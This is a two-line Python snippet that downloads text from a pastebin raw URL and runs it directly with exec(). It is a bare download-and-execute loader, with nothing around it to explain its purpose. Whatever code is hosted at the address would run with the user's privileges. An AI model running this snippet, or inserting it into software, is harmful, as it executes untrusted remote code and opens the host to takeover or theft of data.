import urllib.request
exec(urllib.request.urlopen("https://pastebin.com.invalid/raw/AbCdEf12").read().decode())
